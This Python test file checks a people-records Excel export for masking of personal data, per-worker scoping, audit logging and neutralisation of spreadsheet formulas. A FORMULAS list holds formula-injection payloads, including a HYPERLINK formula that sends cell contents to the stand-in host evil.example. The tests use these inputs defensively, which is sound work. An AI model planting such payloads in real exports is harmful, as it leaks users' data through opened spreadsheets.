from __future__ import annotations

import io

import openpyxl

from fangkong.core import pii
from fangkong.core.models import AuditEvent


def _rows(content: bytes) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return list(sheet.iter_rows(values_only=True))


def test_export_is_masked_scoped_and_audited(district):
    r = district.client(district.worker_a).get("/people/export.xlsx")
    assert r.status_code == 200
    rows = _rows(r.content)
    assert len(rows) == 2  # header + person A only
    name, _type, number, phone = rows[1][:4]
    assert name == "李四"
    assert number == pii.mask_document(pii.decrypt(district.person_a.doc_cipher))
    assert phone == "139****5678"
    assert pii.decrypt(district.person_a.doc_cipher) not in str(rows)
    event = AuditEvent.objects.get(action="people.export")
    assert event.actor_name == "worker_a" and event.fields["rows"] == 1


def test_export_honours_filters(district):
    rows = _rows(district.client(district.hq).get("/people/export.xlsx", {"q": "王"}).content)
    assert [r[0] for r in rows[1:]] == ["王五"]


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"details")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_export_neutralises_formulas_and_survives_control_characters(district):
    from fangkong.conftest import make_person
    from fangkong.registry.models import Person

    people = [make_person(district.a, district.a1, name=f"p{i}") for i in range(len(FORMULAS))]
    for person, text in zip(people, FORMULAS, strict=True):
        # As a row stored before input was cleaned (or by a path that does not clean) would be.
        Person.objects.filter(pk=person.pk).update(name=text, address=text)
    Person.objects.filter(pk=district.person_a.pk).update(name="李\x02四\x01\x1b", address="园丁小区\x0b3号楼")
    r = district.client(district.worker_a).get("/people/export.xlsx")
    assert r.status_code == 200  # openpyxl refused the control characters: every export of the list was a 500
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).worksheets[0]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert cells["李四"][8].value == "园丁小区3号楼"
    for text in FORMULAS:
        row = next(row for name, row in cells.items() if name.lstrip("'").replace("\n", "\r") == text)
        for cell in (row[0], row[8]):
            assert cell.data_type != "f" and cell.value.startswith("'"), (text, cell.value)
